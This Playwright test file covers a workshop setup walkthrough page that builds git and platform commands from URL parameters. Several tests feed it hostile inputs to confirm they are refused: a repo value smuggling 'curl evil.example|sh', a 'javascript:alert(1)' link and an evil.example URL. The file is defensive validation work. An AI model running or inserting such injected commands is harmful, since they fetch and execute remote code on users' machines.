/** The setup walkthrough in a browser: links, tabs, OS, live commands, copy, checklist, banner, print, no-JS, axe. */
import { expect, test, type Page } from '@playwright/test';
import { expectNoAxeViolations, waitForHydrate } from './test-utils';

const REPO = 'https://github.com/ryanmark1867/dl_structured_data_hands_on';
const ACCEPTANCE = `/setup/?platform=cocalc&repo=${REPO}&branch=master`;
const tab = (page: Page, name: string) => page.getByRole('tab', { name, exact: true });
const panel = (page: Page, id: string) => page.locator(`#setup-panel-${id}`);
const commands = (page: Page, id: string) => panel(page, id).locator('pre code');

async function open(page: Page, url: string) {
	await page.goto(url);
	await waitForHydrate(page);
}

test('the acceptance link shows the CoCalc panel with the article’s commands', async ({ page }) => {
	await open(page, ACCEPTANCE);
	await expect(tab(page, 'CoCalc'), 'the CoCalc tab is selected').toHaveAttribute('aria-selected', 'true');
	await expect(panel(page, 'cocalc'), 'the CoCalc panel shows').toBeVisible();
	await expect(panel(page, 'colab'), 'other panels are hidden').toBeHidden();
	await expect(commands(page, 'cocalc'), 'the three terminal commands').toContainText([
		'git init',
		`git remote add origin ${REPO}`,
		'git pull origin master',
	]);
	await expect(page.locator('.wr-banner'), 'the link banner names the repo').toContainText(
		'repository github.com/ryanmark1867/dl_structured_data_hands_on',
	);
	await expect(page.locator('.wr-banner'), 'the default repository gets no remark').not.toContainText('not the');
});

test('a repo with a command separator is refused with a notice and never reaches a command', async ({ page }) => {
	await open(page, '/setup/?platform=cocalc&repo=https://github.com/a/b;curl evil.example|sh');
	await expect(page.locator('.wr-notice code').getByText('repo', { exact: true }), 'the rejection notice names repo').toBeVisible();
	await expect(commands(page, 'cocalc'), 'the default repo is used').toContainText([`git remote add origin ${REPO}`]);
	for (const text of await page.locator('pre code').allTextContents()) expect(text, 'no command contains curl').not.toContain('curl');
	await expect(page.locator('.wr-banner'), 'a refused repo customises nothing').toHaveCount(0);
});

test('a parameter name in other capitals is named in a notice, not silently ignored', async ({ page }) => {
	await open(page, '/setup/?platform=cocalc&REPO=https://github.com/acme/keras-101');
	await expect(page.locator('.wr-notice li').filter({ hasText: 'REPO' }), 'the notice names REPO').toContainText('no setting by that name');
	await expect(commands(page, 'cocalc'), 'the default repo is used').toContainText([`git remote add origin ${REPO}`]);
});

test('arrow keys, Home and End move between tabs and update the URL', async ({ page }) => {
	await open(page, '/setup/');
	await tab(page, 'Google Colab').focus();
	await page.keyboard.press('ArrowRight');
	await expect(tab(page, 'CoCalc'), 'ArrowRight selects the next tab').toHaveAttribute('aria-selected', 'true');
	await expect(tab(page, 'CoCalc'), 'and focuses it').toBeFocused();
	await expect(tab(page, 'Google Colab'), 'the old tab leaves the tab order').toHaveAttribute('tabindex', '-1');
	await page.keyboard.press('End');
	await expect(tab(page, 'mybinder.org'), 'End selects the last tab').toHaveAttribute('aria-selected', 'true');
	await page.keyboard.press('ArrowRight');
	await expect(tab(page, 'Google Colab'), 'ArrowRight wraps to the first').toHaveAttribute('aria-selected', 'true');
	await page.keyboard.press('ArrowLeft');
	await page.keyboard.press('Home');
	await expect(tab(page, 'Google Colab'), 'Home selects the first tab').toBeFocused();
	await tab(page, 'Kaggle Notebooks').click();
	await expect(page, 'the URL names the chosen platform').toHaveURL(/[?&]platform=kaggle/);
});

test('the chosen tab carries over to the prep page, and a link’s platform wins without being stored', async ({ page }) => {
	await open(page, '/setup/');
	await tab(page, 'CoCalc').click();
	await open(page, '/prep/');
	await expect(page.getByRole('heading', { name: 'Steps on CoCalc' }), 'prep shows the platform chosen on setup').toBeVisible();
	await open(page, '/setup/?platform=kaggle');
	await expect(tab(page, 'Kaggle Notebooks'), 'the URL platform wins').toHaveAttribute('aria-selected', 'true');
	expect(await page.evaluate(() => localStorage.getItem('wr:platform-tab')), 'a link is never stored').toBe('cocalc');
});

test.describe('on a Mac', () => {
	test.use({
		userAgent: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
	});

	test('the local install preselects macOS and can switch', async ({ page }) => {
		await open(page, '/setup/?platform=local');
		await expect(tab(page, 'macOS'), 'macOS is preselected').toHaveAttribute('aria-selected', 'true');
		await expect(commands(page, 'local').filter({ hasText: 'source .venv/bin/activate' }).first(), 'macOS activation').toBeVisible();
		await expect(commands(page, 'local').filter({ hasText: 'Activate.ps1' }), 'Windows steps hidden').toBeHidden();
		await tab(page, 'Windows').click();
		await expect(commands(page, 'local').filter({ hasText: '.venv\\Scripts\\Activate.ps1' }), 'Windows activation').toBeVisible();
	});
});

test('commands follow the fields as they are typed, and keep the last valid value', async ({ page }) => {
	await open(page, '/setup/');
	const repo = page.getByLabel('Repository URL');
	await repo.fill('https://gitlab.com/team/proj.git');
	await expect(commands(page, 'colab'), 'the clone uses the typed repo').toContainText(['!git clone https://gitlab.com/team/proj']);
	await page.getByLabel('Branch').fill('dev');
	await expect(commands(page, 'colab'), 'and the branch').toContainText(['!git clone -b dev https://gitlab.com/team/proj']);
	await repo.fill('https://evil.example/team/proj');
	await expect(page.locator('.wr-text-field .wr-error').first(), 'a message beside the field').toContainText('https link');
	await expect(repo, 'the typed text stays').toHaveValue('https://evil.example/team/proj');
	await expect(repo, 'marked invalid').toHaveAttribute('aria-invalid', 'true');
	await expect(commands(page, 'colab'), 'the last valid repo stays').toContainText(['!git clone -b dev https://gitlab.com/team/proj']);
	await page.getByLabel('Google Drive folder (Colab)').fill('My Drive');
	await expect(commands(page, 'colab'), 'a folder with a space is not used').toContainText(['%cd "/content/drive/MyDrive/dl_workshop"']);
	// The `.git` the reader typed is dropped: the same repository gives the same link and commands either way.
	await expect(page, 'valid values go to the URL').toHaveURL(/repo=https%3A%2F%2Fgitlab.com%2Fteam%2Fproj&branch=dev/);
});

test('a link’s values reach the attributes of the steps too, not only their text', async ({ page }) => {
	// The panel's steps hydrate a task after the island, from the server HTML (default repo);
	// hydrating adopts attributes as they are, so the link's values must be rendered over them.
	await open(page, '/setup/?repo=https://github.com/acme/proj&branch=dev&notebook=lab/intro.ipynb');
	const colab = panel(page, 'colab');
	await expect(colab.getByRole('link', { name: 'Open lab/intro.ipynb in Colab' }), 'the step link follows the link').toHaveAttribute(
		'href',
		'https://colab.research.google.com/github/acme/proj/blob/dev/lab/intro.ipynb',
	);
	await expect(colab.locator('pre code').first(), 'the cell clones the link’s repository').toContainText('https://github.com/acme/proj');
	const blocks = colab.locator('.wr-command');
	expect(await blocks.count(), 'the cell and the steps').toBeGreaterThan(3);
	for (const block of await blocks.all()) {
		const first = ((await block.locator('pre code').textContent()) ?? '').split('\n')[0] ?? '';
		expect(await block.getByRole('button').getAttribute('aria-label'), 'each copy button is named after its own command').toContain(first);
	}
});

test('a copy button puts exactly the shown command on the clipboard', async ({ page, context }) => {
	await context.grantPermissions(['clipboard-read', 'clipboard-write']);
	await open(page, '/setup/?platform=colab');
	const block = panel(page, 'colab').locator('.wr-steps .wr-command').nth(0);
	await block.getByRole('button', { name: /^Copy command/ }).click();
	await expect(block.getByRole('status'), 'the copy is confirmed').toHaveText('Copied');
	const shown = await block.locator('pre code').textContent();
	expect(await page.evaluate(() => navigator.clipboard.readText()), 'clipboard equals the shown text').toBe(shown);
	expect(shown, 'a two-line cell').toBe("from google.colab import drive\ndrive.mount('/content/drive')");
});

test('checklist progress survives a reload and can be reset', async ({ page }) => {
	await open(page, '/setup/?platform=cocalc');
	const box = panel(page, 'cocalc').getByRole('checkbox', { name: /Pull the repository/ });
	await box.check();
	await expect(panel(page, 'cocalc').locator('.wr-progress [role="status"]'), 'progress counts it').toHaveText('1 of 5 steps done');
	await page.reload();
	await waitForHydrate(page);
	await expect(box, 'still done after reload').toBeChecked();
	await panel(page, 'cocalc').getByRole('button', { name: 'Reset progress' }).click();
	await expect(box, 'reset clears it').not.toBeChecked();
	await page.reload();
	await waitForHydrate(page);
	await expect(box, 'and the reset is stored').not.toBeChecked();
});

test('the checklist works when storage is blocked, full or corrupted', async ({ page }) => {
	await page.addInitScript(() => {
		localStorage.setItem('wr:platform-tab', '{not json');
		const get = Storage.prototype.getItem;
		Storage.prototype.getItem = function (key: string) {
			return key.startsWith('wr:checklist:') ? '{"colab": [' : get.call(this, key);
		};
		Storage.prototype.setItem = () => {
			throw new DOMException('full', 'QuotaExceededError');
		};
	});
	await open(page, '/setup/');
	const box = panel(page, 'colab').getByRole('checkbox', { name: /Mount Google Drive/ });
	await expect(box, 'corrupted progress reads as none').not.toBeChecked();
	await box.check();
	await expect(box, 'the box still works').toBeChecked();
	await expect(panel(page, 'colab').getByText('Progress cannot be saved'), 'the reader is told').toBeVisible();
});

test('the banner’s Reset restores the default repo and cleans the URL', async ({ page }) => {
	await open(page, '/setup/?platform=colab&repo=https://codeberg.org/x/y&folder=course');
	const banner = page.locator('.wr-banner');
	await expect(banner, 'the banner lists the link’s values').toContainText(
		'repository codeberg.org/x/y (not the site’s default workshop repository), Drive folder course',
	);
	await expect(commands(page, 'colab'), 'commands use the link').toContainText(['!git clone https://codeberg.org/x/y']);
	await banner.getByRole('button', { name: /Reset/ }).click();
	await expect(banner, 'the banner goes').toHaveCount(0);
	await expect(commands(page, 'colab'), 'the default repo is back').toContainText([`!git clone ${REPO}`]);
	await expect(page, 'link values leave the URL').toHaveURL(/\/setup\/$/);
	expect(await page.evaluate(() => JSON.stringify(localStorage)), 'link values are never stored').not.toContain('codeberg');
});

test('print shows every platform’s steps and no buttons', async ({ page }) => {
	await open(page, '/setup/?platform=cocalc&repo=https://github.com/acme/keras-101');
	// The hidden panels keep their server HTML until chosen; the browser's beforeprint brings them up to date.
	// The walkthrough listens from its mount effect, a frame or two after the island hydrates (a reader
	// cannot print sooner): the event is sent again until it has been heard.
	await page.emulateMedia({ media: 'print' });
	for (const id of ['colab', 'cocalc', 'local', 'kaggle', 'studio-lab', 'codespaces', 'binder'])
		await expect(panel(page, id), `${id} prints`).toBeVisible();
	await expect(async () => {
		await page.evaluate(() => window.dispatchEvent(new Event('beforeprint')));
		await expect(
			commands(page, 'local').filter({ hasText: 'git clone' }).first(),
			'a platform not chosen prints the link’s repository',
		).toContainText('https://github.com/acme/keras-101', { timeout: 500 });
	}).toPass();
	await expect(commands(page, 'local').filter({ hasText: 'Activate.ps1' }), 'every OS variant prints').toBeVisible();
	await expect(page.getByRole('button').first(), 'no buttons in print').toBeHidden();
	await expect(page.getByRole('tablist').first(), 'no tabs in print').toBeHidden();
});

test.describe('without JavaScript', () => {
	test.use({ javaScriptEnabled: false });

	test('every platform’s steps show with the default repo', async ({ page }) => {
		await page.goto('/setup/?platform=cocalc&repo=https://github.com/a/b');
		for (const name of ['Google Colab', 'CoCalc', 'Local install', 'mybinder.org'])
			await expect(page.getByRole('heading', { level: 2, name }), `${name} is listed`).toBeVisible();
		await expect(commands(page, 'colab'), 'the default repo').toContainText([`!git clone ${REPO}`]);
		await expect(page.getByText('need JavaScript'), 'the page says what needs JavaScript').toBeVisible();
		await expect(page.getByRole('tablist'), 'no dead tabs').toHaveCount(0);
		await expect(page.locator('main button:visible'), 'no dead buttons: reset progress needs JavaScript too').toHaveCount(0);
	});
});

// The bare page is checked by the axe sweep of every page (quality-axe-themes); here, a refused link.
test('axe finds no violations with link notices and the banner', async ({ page }) => {
	test.setTimeout(90_000);
	await open(page, '/setup/?platform=local&repo=javascript:alert(1)&branch=dev');
	await expectNoAxeViolations(page, 'with a notice and the banner');
});

test('the unambiguous spellings of a link give the same commands as the canonical one', async ({ page }) => {
	const shown = async (query: string) => {
		await open(page, `/setup/?${query}`);
		return { commands: await commands(page, 'colab').allTextContents(), banner: await page.locator('.wr-banner').textContent() };
	};
	const canonical = await shown('platform=colab&repo=https://codeberg.org/acme/keras-101&branch=dev&notebook=notebooks/train.ipynb');
	for (const query of [
		'platform=colab&repo=codeberg.org/acme/keras-101/src/branch/dev&notebook=/notebooks/train.ipynb',
		'platform=colab&repo=https://codeberg.org/acme/keras-101/&branch=dev&notebook=/notebooks/train.ipynb',
	]) {
		const normalised = await shown(query);
		expect(normalised.commands, `${query}: same commands`).toEqual(canonical.commands);
		expect(normalised.banner, `${query}: the same banner`).toBe(canonical.banner);
		await expect(page.locator('.wr-notice').filter({ hasText: 'not used' }), 'nothing refused').toHaveCount(0);
	}
});

test('at 1,280 px the platform tabs fit one row, and each field says its default in the hint, not as a grey placeholder', async ({
	page,
}) => {
	await page.setViewportSize({ width: 1280, height: 800 });
	await open(page, '/setup/');
	// The tab list appears as the walkthrough finishes hydrating: wait for it before measuring.
	await expect(page.getByRole('tab'), 'one tab per platform').toHaveCount(7);
	const tops = await page.getByRole('tab').evaluateAll((tabs) => tabs.map((t) => Math.round(t.getBoundingClientRect().top)));
	expect(new Set(tops).size, 'one row').toBe(1);
	const repo = page.getByLabel('Repository URL');
	await expect(repo).toHaveValue('');
	await expect(repo, 'no placeholder that looks filled in').not.toHaveAttribute('placeholder', /./);
	await expect(repo).toHaveAccessibleDescription(/Default: https:\/\/github\.com\/ryanmark1867\/dl_structured_data_hands_on/);
	await expect(page.getByLabel('Branch')).toHaveAccessibleDescription(/Default: master/);
});

test('before the script arrives, a link that sets the platform shows no default steps, only that they are loading', async ({ page }) => {
	await page.route(/\/_astro\/.*\.js$/, (route) => route.abort());
	await page.goto('/setup/?platform=kaggle&repo=https://github.com/octo-org/deep-nets');
	await expect(page.locator('.wr-link-pending'), 'the loading line').toHaveText('Loading the steps this link asks for…');
	await expect(page.locator('#setup-panel-colab'), 'not the default Colab steps').toBeHidden();
	await page.unroute(/\/_astro\/.*\.js$/);
	await page.goto('/setup/?platform=kaggle&repo=https://github.com/octo-org/deep-nets');
	await waitForHydrate(page);
	await expect(page.locator('.wr-link-pending, .wr-link-late'), 'hydrated: gone').toHaveCount(0);
	await expect(page.locator('#setup-panel-kaggle'), 'the link’s platform').toBeVisible();
});

test('fields typed into before the page’s code arrives keep their text, and the commands follow it', async ({ page }) => {
	// Venue Wi-Fi: the walkthrough's script arrives after the reader has started typing.
	let release = () => {};
	const held = new Promise<void>((resolve) => (release = resolve));
	await page.route(/\/_astro\/SetupWalkthrough\.[\w-]+\.js$/, async (route) => {
		await held;
		await route.continue();
	});
	await page.goto('/setup/');
	const repo = page.getByLabel('Repository URL');
	await repo.fill('https://github.com/octo-org/typed-early');
	await page.getByLabel('Branch').fill('feature/x-2');
	release();
	await waitForHydrate(page);
	// Renders after hydration (the link read, the stores bound) must not set the fields back.
	await expect(commands(page, 'colab').first(), 'the commands use what was typed').toContainText('https://github.com/octo-org/typed-early');
	await expect(repo).toHaveValue('https://github.com/octo-org/typed-early');
	await expect(page.getByLabel('Branch')).toHaveValue('feature/x-2');
	await expect(page).toHaveURL(/repo=https%3A%2F%2Fgithub\.com%2Focto-org%2Ftyped-early&branch=feature%2Fx-2/);
});

test('a refused folder or notebook in a link is explained as its field explains it', async ({ page }) => {
	await open(page, `/setup/?folder=${encodeURIComponent('Cours été')}&notebook=${encodeURIComponent('nb/été.ipynb')}`);
	const notice = page.locator('.wr-notice').filter({ hasText: 'not used' });
	await expect(notice.locator('li').filter({ hasText: 'folder' })).toContainText('letters A–Z without accents, digits and . _ - only');
	await expect(notice.locator('li').filter({ hasText: 'notebook' })).toContainText('ending in .ipynb');
	await open(page, `/zh-cn/setup/?folder=${encodeURIComponent('课程')}`);
	await expect(page.locator('.wr-notice li').filter({ hasText: 'folder' })).toContainText('英文字母');
});
